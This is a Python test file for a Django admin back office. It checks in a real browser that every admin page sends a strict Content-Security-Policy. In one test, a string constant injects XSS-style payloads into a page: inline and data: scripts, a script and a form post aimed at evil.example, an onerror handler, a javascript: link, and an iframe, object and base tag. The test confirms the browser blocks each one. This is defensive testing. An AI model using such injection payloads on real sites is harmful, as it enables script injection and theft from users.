"""The back office in a real browser: every page works under its Content-Security-Policy, which
lets nothing run that somebody got into a page."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from django.conf import settings
from django.contrib import admin
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page, expect

from accounts.models import Tenant, User
from accounts.tests.factories import PASSWORD, make_user, sign_staff_in
from channels.tests.browser.conftest import (  # noqa: F401 - fixtures
    Visit,
    Visitor,
    browser,
    product,
    running_product,
    visit,
)
from config.tests.running_product import Product

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

NOTE_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event => {
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
});
"""
INJECT = """() => {
  const inline = document.createElement("script");
  inline.textContent = "window.ran = 'inline'";
  document.body.append(inline);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.example/x.js";
  document.body.append(foreign);
  const inData = document.createElement("script");
  inData.src = "data:text/javascript,window.ran = 'data'";
  document.body.append(inData);
  document.body.insertAdjacentHTML("beforeend",
    "<img src=x onerror=\\"window.ran = 'handler'\\">"
    + "<a id=trap href=\\"javascript:ran='link'\\">x</a>"
    + "<base href='https://evil.example/'>"
    + "<form id=away action='https://evil.example/' method=post></form>"
    + "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/'></object>");
  document.getElementById("trap").click();
  document.getElementById("away").submit();
}"""


@pytest.mark.django_db  # so that pytest-django makes tables, of which the tests below see nothing
@pytest.mark.parametrize("path", ["", "login/", "sessions/", "accounts/plan/", "jsi18n/"])
def test_every_page_says_what_a_browser_is_to_refuse(path: str) -> None:
    staff = Client()
    sign_staff_in(staff, User.objects.create_superuser("root@example.com", PASSWORD))

    for client in (staff, Client()):
        answer = client.get(f"/admin/{path}")
        policy = answer["Content-Security-Policy"].split("; ")
        assert "default-src 'none'" in policy
        assert "script-src 'self' 'unsafe-eval'" in policy
        assert {"base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'"} <= set(policy)
        assert answer["Cross-Origin-Opener-Policy"] == "same-origin"
        assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
        assert answer["Cache-Control"] == "no-store"
        assert "microphone=()" in answer["Permissions-Policy"]


@pytest.fixture
def root(committed_tenant: Tenant) -> Iterator[User]:
    user = User.objects.create_superuser(f"root@{committed_tenant.slug}.example", PASSWORD)
    yield user
    user.delete()


@pytest.fixture
def office(root: User, product: Product, visit: Visit) -> Visitor:  # noqa: F811 - the fixtures
    """A browser in which a superuser is logged in."""
    client = Client()
    sign_staff_in(client, root)
    visitor = visit("about:blank")
    visitor.context.add_init_script(NOTE_VIOLATIONS)
    cookie: Any = {
        "name": settings.SESSION_COOKIE_NAME,
        "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
        "url": f"{product.url}/admin",
    }
    visitor.context.add_cookies([cookie])
    return visitor


def list_pages(tenant: Tenant, person: User) -> Iterator[str]:
    yield from map(reverse, ("admin:index", "admin:password_change", "admin:staff_sessions"))
    yield reverse("admin:staff_proof")
    yield reverse("admin:staff_two_factor")
    yield reverse("admin:staff_access")
    for model in admin.site._registry:
        yield reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
    for name in ("user", "tenant", "plan", "membership"):
        yield reverse(f"admin:accounts_{name}_add")
    yield reverse("admin:accounts_user_change", args=[person.pk])
    yield reverse("admin:accounts_user_delete", args=[person.pk])
    yield reverse("admin:accounts_user_history", args=[person.pk])
    yield reverse("admin:auth_user_password_change", args=[person.pk])
    yield reverse("admin:accounts_tenant_change", args=[tenant.pk])
    yield reverse("admin:accounts_plan_change", args=["free"])


def test_no_page_breaks_its_policy(
    office: Visitor,
    product: Product,  # noqa: F811 - the fixture
    committed_tenant: Tenant,
) -> None:
    person = make_user(committed_tenant)
    broken: dict[str, Any] = {}
    for path in ("/admin/login/?next=/x", *list_pages(committed_tenant, person)):
        answer = office.page.goto(product.url + path)
        assert answer is not None
        assert answer.status == 200, path
        office.page.wait_for_function("window.Alpine !== undefined")
        broken[path] = office.page.evaluate("window.violations")

    assert {path: what for path, what in broken.items() if what} == {}
    assert office.crashes == []


def test_the_themes_own_scripts_work(
    office: Visitor,
    product: Product,  # noqa: F811 - the fixture
) -> None:
    """What opens and closes is Alpine's; what finds as one types is select2's."""
    office.page.goto(f"{product.url}/admin/accounts/membership/add/")

    office.page.locator(".select2-selection").first.click()
    expect(office.page.locator(".select2-results__option").first).to_be_visible()
    assert office.page.evaluate("typeof window.Alpine") == "object"


def test_nothing_runs_that_got_into_a_page(
    office: Visitor,
    product: Product,  # noqa: F811 - the fixture
) -> None:
    page: Page = office.page
    page.goto(f"{product.url}/admin/accounts/plan/")
    here = page.url

    page.evaluate(INJECT)
    page.wait_for_function("window.violations.length >= 9")

    assert page.evaluate("window.ran") is None
    assert page.url == here
    refused = Counter(said.split()[0] for said in page.evaluate("window.violations"))
    assert refused == {
        "script-src-elem": 4,  # the link is one too
        "script-src-attr": 1,
        "form-action": 1,
        "base-uri": 1,
        "frame-src": 1,
        "object-src": 1,
    }
